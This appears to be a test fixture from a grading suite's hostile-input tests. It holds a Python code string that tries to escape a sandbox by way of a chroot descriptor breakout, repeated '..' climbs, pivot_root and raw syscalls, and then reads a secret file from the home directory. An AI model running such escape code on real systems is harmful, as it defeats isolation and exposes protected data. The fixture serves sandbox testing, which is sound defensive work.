"""Breaks out by chroot, pivot_root and descriptors that point above the root."""

from tests.grading.hostile.channels import SYSCALL, told

ANSWERS = told(
    SYSCALL
    + """
import os
above = os.open("/", os.O_RDONLY)
try:
    os.mkdir("jail")
    os.chroot("jail")
except OSError:
    pass
os.fchdir(above)
for _ in range(60):
    os.chdir("..")
try:
    os.chroot(".")
except OSError:
    pass
libc.pivot_root(b".", b".")
syscall(155, b".", b".")
syscall(428, -100, b"/", 1)
return open("@HOME@/secret.txt").read()
"""
)
